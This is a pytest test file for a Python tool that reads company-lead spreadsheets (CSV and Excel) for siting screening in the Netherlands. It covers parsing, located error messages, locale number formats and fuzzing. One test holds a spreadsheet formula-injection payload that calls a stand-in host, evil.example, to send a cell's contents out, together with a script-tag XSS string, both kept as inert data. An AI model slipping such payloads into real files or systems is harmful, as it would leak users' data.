"""Reading lead pipelines: located messages for bad rows, never a lost lead, no tracebacks."""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from siting import SitingInputError
from siting.inputs.leads import read_leads
from siting.jobs.screen import screen_leads
from siting.results.screening import STATUSES

HEADER = ["id", "name", "municipality", "year", "land_ha", "power_mw", "talent_hbo"]
GOOD = ["L1", "Photonics scale-up", "Eindhoven", "2028", "1.5", "0.05", "20"]


def write_leads(
    folder: Path,
    rows: list[list[str]],
    *,
    sep: str = ",",
    name: str = "leads.csv",
    bom: bool = False,
) -> Path:
    """Write rows (header first) as a CSV leads file."""
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=sep, lineterminator="\n").writerows(rows)
    path = folder / name
    path.write_text(("\ufeff" if bom else "") + buffer.getvalue(), encoding="utf-8")
    return path


def write_xlsx(
    folder: Path, rows: list[list[object]], *, name: str = "leads.xlsx", sheet: str = "pipeline"
) -> Path:
    book = Workbook()
    ws = book.active
    assert ws is not None
    ws.title = sheet
    for row in rows:
        ws.append(row)
    path = folder / name
    book.save(path)
    return path


# --- synthetic: what a valid table gives ------------------------------------------------------


def test_a_valid_row_becomes_a_profile_with_its_spreadsheet_row(tmp_path: Path):
    table = read_leads(write_leads(tmp_path, [HEADER, GOOD]))
    assert len(table) == 1 and table.header_row == 1 and table.separator == ","
    lead = table.leads[0]
    assert lead.valid and lead.row == 2 and lead.lead_id == "L1"
    assert lead.profile is not None
    assert lead.profile.needs.land_ha == 1.5
    assert lead.profile.company.current_location.municipality == "Eindhoven"
    assert lead.profile.needs.talent.hbo == 20


def test_semicolon_file_with_bom_and_decimal_commas_is_read(tmp_path: Path):
    rows = [HEADER, ["L1", "A", "Delft", "2028", "2,5", "0,75", "12"]]
    table = read_leads(write_leads(tmp_path, rows, sep=";", bom=True))
    assert table.separator == ";"
    lead = table.leads[0]
    assert lead.valid, lead.problems
    assert lead.profile.needs.land_ha == 2.5 and lead.profile.needs.power_mw == 0.75


def test_decimal_comma_in_a_comma_file_is_a_located_error_with_a_hint(tmp_path: Path):
    table = read_leads(
        write_leads(tmp_path, [HEADER, ["L1", "A", "Delft", "2028", "2,5", "1", "1"]])
    )
    [problem] = table.leads[0].problems
    assert (problem.row, problem.column) == (2, "land_ha")
    assert "'2,5'" in problem.message and "decimal point" in problem.message


def test_blank_rows_are_skipped_and_counted(tmp_path: Path):
    rows = [
        HEADER,
        GOOD,
        ["", "", "", "", "", "", ""],
        [],
        ["L2", "B", "Leiden", "2029", "1", "1", "1"],
    ]
    table = read_leads(write_leads(tmp_path, rows))
    assert [lead.row for lead in table.leads] == [2, 5]
    assert table.blank_rows == 2


def test_full_key_names_and_weights_columns_are_accepted(tmp_path: Path):
    rows = [
        [
            "company.id",
            "company.current_location.municipality",
            "needs.year",
            "needs.talent.wo",
            "weights.talent_fit",
        ],
        ["L1", "Utrecht", "2027", "10", "2"],
    ]
    lead = read_leads(write_leads(tmp_path, rows)).leads[0]
    assert lead.valid, lead.problems
    assert lead.profile.needs.talent.wo == 10 and lead.profile.weights == {"talent_fit": 2.0}


def test_extra_columns_asked_for_are_kept_not_warned(tmp_path: Path):
    path = write_leads(tmp_path, [[*HEADER, "priority"], [*GOOD, "3"]])
    table = read_leads(path, extra_columns=["priority"])
    assert table.warnings == ()
    assert table.leads[0].extra == {"priority": "3"}


# --- errors: rows -----------------------------------------------------------------------------


def test_text_in_number_fields_gives_every_problem_of_the_row(tmp_path: Path):
    rows = [
        HEADER,
        ["L1", "A", "Eindhoven", "soon", "lots", "a few", "20"],
        ["L2", "B", "Eindhoven", "2028", "1", "1", "1"],
    ]
    table = read_leads(write_leads(tmp_path, rows))
    bad, good = table.leads
    assert not bad.valid and good.valid
    located = {(p.row, p.column) for p in bad.problems}
    assert located == {(2, "year"), (2, "land_ha"), (2, "power_mw")}
    assert all(p.file == str(tmp_path / "leads.csv") for p in bad.problems)
    assert "'lots'" in " ".join(p.message for p in bad.problems)


def test_missing_columns_make_every_lead_invalid_with_the_column_named(tmp_path: Path):
    rows = [["id", "name", "land_ha"], ["L1", "A", "1"], ["L2", "B", "2"]]
    table = read_leads(write_leads(tmp_path, rows))
    assert len(table) == 2 and not table.valid
    for lead in table.leads:
        [problem] = lead.problems
        assert (problem.row, problem.column) == (lead.row, "year")
        assert "missing" in problem.message
    assert {w.column for w in table.warnings} == {"year", "municipality"}


def test_duplicate_ids_make_both_rows_invalid_naming_each_other(tmp_path: Path):
    rows = [HEADER, GOOD, ["L2", "B", "Delft", "2028", "1", "1", "1"], GOOD]
    table = read_leads(write_leads(tmp_path, rows))
    first, second, third = table.leads
    assert second.valid
    assert not first.valid and not third.valid
    assert "also in row(s) 4" in first.problems[-1].message
    assert "also in row(s) 2" in third.problems[-1].message
    assert first.problems[-1].column == "id"


def test_a_row_without_id_gets_a_synthetic_id_and_is_reported(tmp_path: Path):
    rows = [
        HEADER,
        GOOD,
        ["", "No id", "Delft", "2028", "1", "1", "1"],
        ["", "No id either", "Delft", "2028", "1", "1", "1"],
    ]
    table = read_leads(write_leads(tmp_path, rows))
    assert [lead.lead_id for lead in table.leads] == ["L1", "row-3", "row-4"]
    for lead in table.leads[1:]:
        [problem] = lead.problems
        assert problem.column == "id" and problem.row == lead.row


def test_unknown_columns_are_one_warning_not_an_error(tmp_path: Path):
    rows = [
        [*HEADER, "colour", "needs.warp_factor"],
        [*GOOD, "red", "9"],
        ["L2", "B", "Delft", "2028", "1", "1", "1", "blue", "8"],
    ]
    table = read_leads(write_leads(tmp_path, rows))
    assert all(lead.valid for lead in table.leads)
    assert sorted(w.column for w in table.warnings) == ["colour", "needs.warp_factor"]
    assert all(w.row == 1 for w in table.warnings)


def test_a_row_with_too_many_cells_is_invalid(tmp_path: Path):
    path = tmp_path / "leads.csv"
    path.write_text(",".join(HEADER) + "\nL1,Acme, Inc.,Eindhoven,2028,1,1,1\n", encoding="utf-8")
    [lead] = read_leads(path).leads
    assert not lead.valid
    assert any("8 cells but the header has 7" in p.message for p in lead.problems)


def test_hostile_names_are_kept_verbatim_as_data(tmp_path: Path):
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "<script>alert(1)</script>"]
    rows = [
        HEADER,
        *[[f"H{k}", name, "Delft", "2028", "1", "1", "1"] for k, name in enumerate(hostile)],
    ]
    table = read_leads(write_leads(tmp_path, rows))
    assert [lead.profile.company.name for lead in table.leads] == hostile


# --- errors: files ----------------------------------------------------------------------------


@pytest.mark.parametrize("content", ["", "   \n\n", "\ufeff"])
def test_an_empty_file_is_a_file_level_error(tmp_path: Path, content: str):
    path = tmp_path / "leads.csv"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(SitingInputError, match="empty") as info:
        read_leads(path)
    assert info.value.problems[0].file == str(path)


def test_no_id_column_is_a_file_level_error(tmp_path: Path):
    with pytest.raises(SitingInputError, match="no header row with an 'id' column"):
        read_leads(write_leads(tmp_path, [["company", "year"], ["A", "2028"]]))


def test_unknown_extension_missing_file_and_binary_content(tmp_path: Path):
    with pytest.raises(SitingInputError, match=r"unknown file type '\.ods'"):
        read_leads(tmp_path / "leads.ods")
    with pytest.raises(SitingInputError, match="file not found"):
        read_leads(tmp_path / "nowhere.csv")
    binary = tmp_path / "leads.csv"
    binary.write_bytes(b"id,year\n\x00\x01\x02")
    with pytest.raises(SitingInputError, match="binary"):
        read_leads(binary)
    latin = tmp_path / "latin.csv"
    latin.write_bytes("id,name,municipality,year\nL1,Caf\xe9,Delft,2028\n".encode("latin-1"))
    with pytest.raises(SitingInputError, match="not UTF-8"):
        read_leads(latin)
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"not a zip")
    with pytest.raises(SitingInputError, match="the workbook is damaged"):
        read_leads(broken)


def test_a_column_named_twice_is_a_file_level_error(tmp_path: Path):
    with pytest.raises(SitingInputError, match=r"column named twice \(columns E and F\)"):
        read_leads(write_leads(tmp_path, [[*HEADER[:5], "Land_ha"], GOOD[:6]]))


# --- Excel ------------------------------------------------------------------------------------


def test_excel_sheet_with_two_title_lines_above_the_header(tmp_path: Path):
    rows: list[list[object]] = [
        ["Pipeline BOM, Q3 (confidential)"],
        ["exported 2025-09-30", None, None],
        ["ID", "name", "municipality", "year", "land_ha", "power_mw", "vibration_free"],
        [101, "Numeric id", "Veldhoven", 2029, 2.5, 1, True],
        [None, None, None, None, None, None, None],
        ["X-2", "Text in a number", "Helmond", "next year", 1, "much", False],
    ]
    table = read_leads(write_xlsx(tmp_path, rows))
    assert table.header_row == 3 and table.sheet == "pipeline" and table.separator is None
    assert any("header found in row 3" in w.message for w in table.warnings)
    assert table.blank_rows == 1
    first, second = table.leads
    assert first.valid and first.row == 4 and first.lead_id == "101"
    assert first.profile.needs.year == 2029 and first.profile.needs.vibration_free is True
    assert not second.valid and second.row == 6
    assert {(p.row, p.column) for p in second.problems} == {(6, "year"), (6, "power_mw")}


def test_excel_named_sheet_and_unknown_sheet(tmp_path: Path):
    path = write_xlsx(tmp_path, [HEADER, GOOD], sheet="leads 2025")
    assert read_leads(path, sheet="leads 2025").leads[0].valid
    with pytest.raises(SitingInputError, match="no sheet 'other'; sheets: leads 2025"):
        read_leads(path, sheet="other")
    with pytest.raises(SitingInputError, match="the file is empty"):
        read_leads(write_xlsx(tmp_path, [], name="empty.xlsx"))


# --- screening turns unresolvable input into that lead's invalid input -----------------------


def test_unknown_municipality_and_criterion_are_the_leads_invalid_input(tmp_path: Path):
    rows = [
        [*HEADER, "weights.charisma"],
        [*GOOD, ""],
        ["L2", "B", "Atlantis", "2028", "1", "1", "1", ""],
        ["L3", "C", "Delft", "2028", "1", "1", "1", "2"],
    ]
    result = screen_leads(write_leads(tmp_path, rows))
    ok, atlantis, charisma = result.leads
    assert ok.status == "ok"
    assert atlantis.status == "invalid_input"
    assert (atlantis.problems[0].row, atlantis.problems[0].column) == (3, "municipality")
    assert "'Atlantis'" in atlantis.reason
    assert charisma.status == "invalid_input" and charisma.problems[0].row == 4
    assert "charisma" in charisma.reason


# --- names, lists and numbers as users write them ---------------------------------------------


def test_official_domain_names_with_commas_survive_a_leads_file(tmp_path: Path):
    names = "Process technology, including process intensification | Cybersecurity technologies"
    rows = [
        [*HEADER, "nts_domains"],
        [*GOOD, names],
        ["L2", "B", "Delft", "2028", "1", "1", "1", "photonics, semiconductors"],  # older file
        ["L3", "C", "Delft", "2028", "1", "1", "1", "Defensie-industrie; halfgeleiders"],
    ]
    for sep in (",", ";"):
        table = read_leads(write_leads(tmp_path, rows, sep=sep, name=f"l{sep == ';'}.csv"))
        first, older, dutch = (lead.profile.company.nts_domains for lead in table.leads)
        assert first == ("process_technology", "cybersecurity")
        assert older == ("optical_systems_integrated_photonics", "semiconductors")
        assert dutch == ("defence", "semiconductors")


@pytest.mark.parametrize("sep", [",", ";"])
def test_a_dutch_thousands_separator_is_refused_naming_the_column(tmp_path: Path, sep: str):
    rows = [[*HEADER, "floor_m2"], [*GOOD, "1.500"]]
    [problem] = read_leads(write_leads(tmp_path, rows, sep=sep)).leads[0].problems
    assert (problem.row, problem.column) == (2, "floor_m2")
    assert "'1.500'" in problem.message and "write 1500" in problem.message


def test_a_decimal_comma_of_three_digits_is_a_decimal_in_a_semicolon_file(tmp_path: Path):
    rows = [HEADER, ["L1", "A", "Delft", "2028", "1,500", "0,125", "12"]]
    lead = read_leads(write_leads(tmp_path, rows, sep=";")).leads[0]
    assert lead.valid, lead.problems
    assert lead.profile.needs.land_ha == 1.5 and lead.profile.needs.power_mw == 0.125


def test_numeric_excel_cells_are_numbers_and_text_cells_are_checked(tmp_path: Path):
    rows = [[*HEADER, "floor_m2"], [*GOOD[:4], 2.125, 0.5, 20, 1500], [*GOOD[:4], 1, 1, 1, "1.500"]]
    rows[2][0] = "L2"
    numeric, text = read_leads(write_xlsx(tmp_path, rows)).leads
    assert numeric.valid and numeric.profile.needs.land_ha == 2.125
    assert not text.valid and text.problems[0].column == "floor_m2"


def test_a_year_already_past_is_one_warning_listing_the_rows(tmp_path: Path):
    rows = [HEADER, GOOD, ["L2", "B", "Delft", "2024", "1", "1", "1"]]
    table = read_leads(write_leads(tmp_path, rows))
    assert all(lead.valid for lead in table.leads)  # a warning, not an error
    [warning] = [w for w in table.warnings if "already past" in w.message]
    assert warning.column == "year" and "rows 3" in warning.message


def test_a_point_outside_the_netherlands_is_the_leads_invalid_input(tmp_path: Path):
    rows = [
        ["id", "lat", "lon", "year"],
        ["in-nl", "51.44", "5.47", "2028"],  # Eindhoven
        ["antwerp", "51.22", "4.40", "2028"],
        ["north-sea", "52.30", "3.50", "2028"],
    ]
    result = screen_leads(write_leads(tmp_path, rows))
    eindhoven, antwerp, sea = result.leads
    assert eindhoven.status == "ok"
    for lead in (antwerp, sea):
        assert lead.status == "invalid_input"
        assert lead.problems[0].column == "lat/lon"
        assert "outside the Netherlands" in lead.reason


# --- fuzzing: random text in random fields ----------------------------------------------------

FIELDS = [
    "id",
    "name",
    "nts_domains",
    "municipality",
    "lat",
    "lon",
    "year",
    "land_ha",
    "cleanroom_m2",
    "vibration_free",
    "environmental_category",
    "power_mw",
    "talent_mbo",
    "talent_wo",
    "max_relocation_km",
    "exclude_provinces",
    "space_types",
    "allow_unknown",
]
BASE = {
    "id": "F1",
    "name": "Fuzz",
    "municipality": "Eindhoven",
    "year": "2028",
    "land_ha": "1",
    "power_mw": "0.5",
}
cell_text = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=12
)


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(
    changes=st.dictionaries(st.sampled_from(FIELDS), cell_text, max_size=5),
    sep=st.sampled_from([",", ";"]),
)
def test_fuzzed_rows_never_crash_and_every_problem_is_located(tmp_path: Path, changes, sep):
    record = {**BASE, **changes}
    path = write_leads(
        tmp_path, [FIELDS, [record.get(f, "") for f in FIELDS]], sep=sep, name="fuzz.csv"
    )
    try:
        table = read_leads(path)
    except SitingInputError as exc:
        # only a file-level problem may stop the reading: here, a destroyed header row
        assert all(p.row is None or p.row == 1 for p in exc.problems)
        return
    assert len(table) + table.blank_rows >= 1
    result = screen_leads(dataclasses.replace(table, leads=table.leads[:3]), top=2)
    assert len(result.leads) == len(table.leads[:3])
    for lead in result.leads:
        assert lead.status in STATUSES and lead.status != "error", lead.reason
        if lead.status == "invalid_input":
            assert lead.problems and lead.reason
            assert all(p.file == str(path) and p.row == lead.row for p in lead.problems)
